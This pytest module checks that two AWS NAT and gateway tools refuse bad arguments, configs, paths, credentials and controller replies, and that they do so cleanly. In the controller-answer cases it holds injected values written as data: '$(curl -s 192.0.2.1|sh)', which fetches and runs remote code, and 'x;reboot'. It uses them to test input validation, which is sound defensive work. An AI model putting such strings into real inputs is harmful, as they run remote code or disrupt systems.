"""Refused input across both tools: one clear line, the documented status,
nothing created in AWS, no file half-written, no traceback."""

import json

import pytest
from conftest import REGION, build_vpc, cli_env, nat_record, run_cli, tool

from emulators.controller import gateway
from emulators.topology import nat_vpc

ROLE = "arn:aws:iam::123456789012:role/d"
GOOD = "GOOD"  # stands for a valid one-record test config


def rollprobe(*argv, deploy=True):
    base = ["--backup_folder", "b", "--region", REGION]
    if deploy:
        base += ["--output_test_config", "out.json"]
    return [tool("rollprobe"), *base, *argv]


def cellscan(*argv, sub=("natgw",)):
    return [tool("cellscan"), "--vpc", "VPC", "--assume_role", ROLE, "--region", REGION, *argv, *sub]


SPOKE = (
    "spoke",
    "--controller_ip",
    "CONTROLLER",
    "--controller_user",
    "admin",
    "--controller_password",
    "PASSWORD",
    "--spoke_gw_name",
    "spoke-1",
)

SPOKE_FILE = (*SPOKE[:5], "--controller_password_file", "pw.txt", *SPOKE[7:])

# One case a line: the table reads as the list of refusals.
# fmt: off
CASES = {
    # rollprobe command lines
    "rp no test_config": (rollprobe(), None, 2, "the following arguments are required: --test_config"),
    "rp no backup_folder": ([tool("rollprobe"), "--test_config", "in.json", "--output_test_config", "o"], GOOD, 2,
                            "the following arguments are required: --backup_folder"),
    "rp unknown option": (rollprobe("--test_config", "in.json", "--colour", "red"), GOOD, 2,
                          "unrecognized arguments: --colour red"),
    "rp no output": (rollprobe("--test_config", "in.json", deploy=False), GOOD, 2, "needs --output_test_config"),
    "rp dot folder": ([tool("rollprobe"), "--test_config", "in.json", "--backup_folder", ".b",
                       "--output_test_config", "o"], GOOD, 1, "from backup_folder .b"),
    "rp absolute folder": ([tool("rollprobe"), "--test_config", "in.json", "--backup_folder", "/tmp/b",
                            "--output_test_config", "o"], GOOD, 1, "from backup_folder /tmp/b"),
    "rp odd tags": (rollprobe("--test_config", "in.json", "--tag_resource", "team,net,owner"), GOOD, 1,
                    "**Error** incomplete tag_resource pair"),
    "rp empty tags": (rollprobe("--test_config", "in.json", "--tag_resource", ""), GOOD, 1,
                      "**Error** incomplete tag_resource pair"),
    "rp workflow no role": (rollprobe("--test_config", "in.json", "--workflow_account_role", ",1,us-east-1"), GOOD,
                            1, "the role name is empty"),
    "rp workflow bad account": (rollprobe("--test_config", "in.json", "--workflow_account_role", "wf,12ab,us-east-1"),
                                GOOD, 1, "the account number must have 12 digits"),
    "rp workflow no region": (rollprobe("--test_config", "in.json", "--workflow_account_role", "wf,111122223333,"),
                              GOOD, 1, "the region is empty"),
    "rp workflow no metadata": (rollprobe("--test_config", "in.json", "--workflow_account_role", "wf"), GOOD, 1,
                                "**Error** failed to deduce workflow account number from meta data"),
    # test configs
    "rp missing config": (rollprobe("--test_config", "absent.json"), None, 1, "absent.json: cannot be read"),
    "rp not json": (rollprobe("--test_config", "in.json"), "{nope", 1, "in.json: is not JSON"),
    "rp not a list": (rollprobe("--test_config", "in.json"), '{"a": 1}', 1, "is not a JSON list"),
    "rp empty list": (rollprobe("--test_config", "in.json"), "[]", 1, "holds no test record"),
    "rp record not object": (rollprobe("--test_config", "in.json"), "[1]", 1, "record 0 is not a JSON object"),
    "rp no gw subnet": (rollprobe("--test_config", "in.json"), '[{"private_subnet_id": "s"}]', 1,
                        "record 0 has no gw_subnet_id"),
    "rp no private subnet": (rollprobe("--test_config", "in.json"), '[{"gw_subnet_id": "s"}]', 1,
                             "record 0 has no private_subnet_id"),
    "rp wrong type": (rollprobe("--test_config", "in.json"), '[{"gw_subnet_id": ["s"], "private_subnet_id": "p"}]',
                      1, "record 0 has no gw_subnet_id"),
    "rp no cidr": (rollprobe("--test_config", "in.json"), '[{"gw_subnet_id": "s", "private_subnet_id": "p"}]', 1,
                   "record 0 has no private_subnet_cidr"),
    "rp unknown subnet": (rollprobe("--test_config", "in.json"),
                          '[{"gw_subnet_id": "subnet-00000000000000000", "private_subnet_id": "p", '
                          '"private_subnet_cidr": "10.0.1.0/24"}]', 1,
                          "**Error** cannot find subnet subnet-00000000000000000"),
    "rp revert unknown subnet": (rollprobe("--revert", "--test_config", "in.json", deploy=False),
                                 '[{"gw_subnet_id": "subnet-00000000000000000", "private_subnet_id": ""}]', 1,
                                 "**Error** cannot find subnet subnet-00000000000000000"),
    # cellscan command lines
    "cs no vpc": ([tool("cellscan"), "--assume_role", ROLE, "--region", REGION, "--backup_folder", "b", "natgw"],
                  None, 2, "the following arguments are required: --vpc"),
    "cs no role": ([tool("cellscan"), "--vpc", "v", "--region", REGION, "--backup_folder", "b", "natgw"], None, 2,
                   "the following arguments are required: --assume_role"),
    "cs no region": ([tool("cellscan"), "--vpc", "v", "--assume_role", ROLE, "--backup_folder", "b", "natgw"],
                     None, 2, "the following arguments are required: --region"),
    "cs no folder": (cellscan(), None, 2, "the following arguments are required: --backup_folder"),
    "cs no subcommand": (cellscan("--backup_folder", "b", sub=()), None, 2, "a subcommand is required"),
    "cs unknown subcommand": (cellscan("--backup_folder", "b", sub=("tgw",)), None, 2, "invalid choice: 'tgw'"),
    "cs spoke no controller": (cellscan("--backup_folder", "b", sub=("spoke", "--controller_user", "u")), None, 2,
                               "spoke needs --controller_ip and --controller_user"),
    "cs dot folder": (cellscan("--backup_folder", "./b"), None, 1, 'from backup_folder ./b'),
    "cs empty folder": (cellscan("--backup_folder", ""), None, 1, 'Please remove the beginning "/"'),
    # history files
    "cs history not json": (cellscan("--backup_folder", "b"), ("history", "{"), 1, "cannot read history file"),
    "cs history no natgws": (cellscan("--backup_folder", "b"), ("history", "{}"), 1, 'has no "natgws" list'),
    "cs history no subnet": (cellscan("--backup_folder", "b"), ("history", '{"natgws": [{}]}'), 1,
                             'has no "subnet_id"'),
    # controller answers
    "cs login refused": (cellscan("--backup_folder", "b", sub=SPOKE), ("password", "wrong"), 1,
                         "**Error** Invalid username or password"),
    "cs controller garbage": (cellscan("--backup_folder", "b", sub=SPOKE), ("controller", "garbage"), 1,
                              "**Error** controller login failed: "),
    # paths, identities and the environment
    "rp empty folder": ([tool("rollprobe"), "--test_config", "in.json", "--backup_folder", "",
                         "--output_test_config", "o"], GOOD, 1, 'Please remove the beginning "/"'),
    "rp climbing folder": ([tool("rollprobe"), "--test_config", "in.json", "--backup_folder", "b/../../x",
                            "--output_test_config", "o"], GOOD, 1, 'must not climb out with ".."'),
    "rp climbing output": ([tool("rollprobe"), "--test_config", "in.json", "--backup_folder", "b",
                            "--output_test_config", "../o.json"], GOOD, 1, 'must not climb out with ".."'),
    "rp output folder missing": ([tool("rollprobe"), "--test_config", "in.json", "--backup_folder", "b",
                                  "--output_test_config", "nowhere/o.json"], GOOD, 1,
                                 "cannot write the output test config in "),
    "rp folder is a file": (rollprobe("--test_config", "in.json"), ("file", "b"), 1, "cannot write the log in b"),
    "rp not an arn": (rollprobe("--test_config", "in.json", "--assume_role", "x"), GOOD, 1,
                      "--assume_role x is not an IAM role ARN"),
    "rp unknown profile": (rollprobe("--test_config", "in.json", "--profile", "nope"), GOOD, 1,
                           "The config profile (nope) could not be found"),
    "rp no region": (rollprobe("--test_config", "in.json")[:3] + ["--output_test_config", "out.json",
                                                                   "--test_config", "in.json"], GOOD, 1,
                     "You must specify a region", {"AWS_DEFAULT_REGION": None}),
    "rp no credentials": (rollprobe("--test_config", "in.json"), GOOD, 1, "Unable to locate credentials",
                          {"AWS_ACCESS_KEY_ID": None, "AWS_SECRET_ACCESS_KEY": None, "AWS_SESSION_TOKEN": None,
                           "AWS_SHARED_CREDENTIALS_FILE": "/nonexistent", "AWS_CONFIG_FILE": "/nonexistent"}),
    "rp nested config": (rollprobe("--test_config", "in.json"), "[" * 100000, 1, "in.json: is nested too deeply"),
    "rp bad cidr": (rollprobe("--test_config", "in.json"),
                    '[{"gw_subnet_id": "s", "private_subnet_id": "p", "private_subnet_cidr": "10.0.1.0/33"}]', 1,
                    "record 0 has an invalid private_subnet_cidr 10.0.1.0/33"),
    # records that would share an instance, a verdict or reach into another VPC
    "rp shared gateway subnet": (rollprobe("--test_config", "in.json"), "SAME_SUBNET", 1,
                                 "record 0 and record 1 share the gateway subnet"),
    "rp same record tag": (rollprobe("--test_config", "in.json"), "SAME_TAG", 1,
                           "record 0 and record 1 have the same record tag nat-00000000000000000-"),
    "rp two vpcs": (rollprobe("--test_config", "in.json"), "TWO_VPCS", 1, "its records lie in more than one VPC"),
    "rp revert two vpcs": (rollprobe("--revert", "--test_config", "in.json", deploy=False), "TWO_VPCS", 1,
                           "its records lie in more than one VPC"),
    "rp workflow 13 digits": (rollprobe("--test_config", "in.json", "--workflow_account_role",
                                        "wf,1234567890123,us-east-1"), GOOD, 1,
                              "the account number must have 12 digits"),
    "rp key name path": (rollprobe("--test_config", "in.json", "--workflow_account_role", "wf,111122223333,us-east-1",
                                   "--key_name", "../k"), GOOD, 1, "--key_name ../k must be a plain name"),
    "cs absolute output": (cellscan("--backup_folder", "b", "--output_test_config", "OUTSIDE"), None, 1,
                           "must be a file name inside the backup folder"),
    "cs vpc not found": ([tool("cellscan"), "--vpc", "vpc-00000000000000000", "--assume_role", ROLE, "--region",
                          REGION, "--backup_folder", "b", "natgw"], None, 1,
                         "**Error** VPC vpc-00000000000000000 not found in us-east-1"),
    "cs password file readable": (cellscan("--backup_folder", "b", sub=SPOKE_FILE), ("pwfile", 0o644), 1,
                                  "is readable by group or others: make it private (chmod 600)"),
    "cs password file missing": (cellscan("--backup_folder", "b", sub=SPOKE_FILE), None, 1,
                                 "--controller_password_file pw.txt cannot be read"),
    "cs password twice": (cellscan("--backup_folder", "b", sub=(*SPOKE, "--controller_password_file", "pw.txt")),
                          ("pwfile", 0o600), 2, "give --controller_password or --controller_password_file, not both"),
    "cs not an arn": ([tool("cellscan"), "--vpc", "VPC", "--assume_role", "x", "--region", REGION,
                       "--backup_folder", "b", "natgw"], None, 1, "--assume_role x is not an IAM role ARN"),
    "cs climbing folder": (cellscan("--backup_folder", "b/.."), None, 1, 'must not climb out with ".."'),
    "cs climbing output": (cellscan("--backup_folder", "b", "--output_test_config", "../x"), None, 1,
                           "must be a file name inside the backup folder"),
    "cs log symlink": (cellscan("--backup_folder", "b"), ("symlink", "b/log/brimvale_testlibs.log"), 1,
                       "cannot write the log in b"),
    "cs nested history": (cellscan("--backup_folder", "b"), ("history", "[" * 100000), 1,
                          "cannot read history file"),
    "cs public_ip null": (cellscan("--backup_folder", "b", sub=SPOKE), ("gateway", {"public_ip": None}), 1,
                          "**Error** controller answer refused: gateway spoke-1: public_ip None"),
    "cs injected private_ip": (cellscan("--backup_folder", "b", sub=SPOKE),
                               ("gateway", {"private_ip": "$(curl -s 192.0.2.1|sh)"}), 1,
                               "private_ip '$(curl -s 192.0.2.1|sh)' is not an IPv4 address"),
    "cs injected name": (cellscan("--backup_folder", "b", sub=SPOKE),
                         ("gateway", {"hagw_details": {"gw_name": "x;reboot"}}), 1,
                         "gateway name 'x;reboot' is not a safe name"),
}
# fmt: on


def resources(c):
    ec2 = c.ec2
    return (
        len(ec2.describe_instances()["Reservations"]),
        len([g for g in ec2.describe_security_groups()["SecurityGroups"] if g["GroupName"] != "default"]),
        len(ec2.describe_key_pairs()["KeyPairs"]),
        len(ec2.describe_addresses()["Addresses"]),
        len(c.iam.list_roles()["Roles"]),
    )


@pytest.mark.parametrize("name", list(CASES))
def test_refused(name, server_clients, controller, tmp_path):
    argv, content, status, message, *env_change = CASES[name]
    c = server_clients
    topo = build_vpc(c.ec2)
    nat = nat_vpc(c.ec2, second_octet=50, zones=["us-east-1a"], private_nat=False)
    controller.gateways = [gateway("spoke-1", "10.0.0.4", "1.1.1.1", topo.pairs[0][0], "10.0.0.0/24")]
    other = build_vpc(c.ec2, cidr="10.7.0.0/16")
    records = {
        GOOD: [nat_record(*topo.pairs[0])],
        "SAME_SUBNET": [nat_record(*topo.pairs[0], n=0), nat_record(*topo.pairs[0], n=1)],
        "SAME_TAG": [nat_record(*topo.pairs[0]), dict(nat_record(*other.pairs[0]), gw_subnet_id="subnet-x")],
        "TWO_VPCS": [nat_record(*topo.pairs[0]), nat_record(*other.pairs[0], n=1)],
    }
    if isinstance(content, str) and content in records:
        content = json.dumps(records[content])
    env = cli_env(c.url, "http://127.0.0.1:9/", AWS_EC2_METADATA_SERVICE_ENDPOINT="http://127.0.0.1:9")
    for key, value in (env_change[0] if env_change else {}).items():
        env.pop(key, None) if value is None else env.__setitem__(key, value)
    outside = tmp_path / "outside.txt"
    password = "secret"
    if isinstance(content, tuple):
        kind, value = content
        if kind == "history":
            (tmp_path / "b").mkdir()
            (tmp_path / "b/history.json").write_text(value)
        elif kind == "password":
            password = value
        elif kind == "file":
            (tmp_path / value).write_text("not a folder")
        elif kind == "symlink":
            (tmp_path / value).parent.mkdir(parents=True)
            (tmp_path / value).symlink_to(outside)
        elif kind == "pwfile":
            (tmp_path / "pw.txt").write_text("secret\n")
            (tmp_path / "pw.txt").chmod(value)
        elif kind == "gateway":
            controller.gateways[0].update(value)
            controller.refuse_unknown = False  # no second line for the absent "-hagw" peer
        else:
            controller.mode = value
    elif content is not None:
        (tmp_path / "in.json").write_text(content)
    places = {"VPC": nat.vpc, "CONTROLLER": controller.address, "PASSWORD": password, "OUTSIDE": str(outside)}
    argv = [places.get(a, a) for a in argv]
    before = resources(c)
    r = run_cli(argv, tmp_path, env)
    assert r.returncode == status, r.stderr[-2000:]
    assert message in r.stderr
    assert "Traceback" not in r.stderr
    lines = [ln for ln in r.stderr.splitlines() if "error" in ln.lower() or "Please remove" in ln]
    assert len(lines) == 1, lines
    assert resources(c) == before
    written = [p.name for p in tmp_path.rglob("*") if p.is_file() and p.suffix in ("", ".json", ".config", ".part")]
    assert not {"out.json", "subnet.config"} & set(written)
    assert not list(tmp_path.rglob(".tmp-*"))
    assert not outside.exists()  # nothing written through a planted link
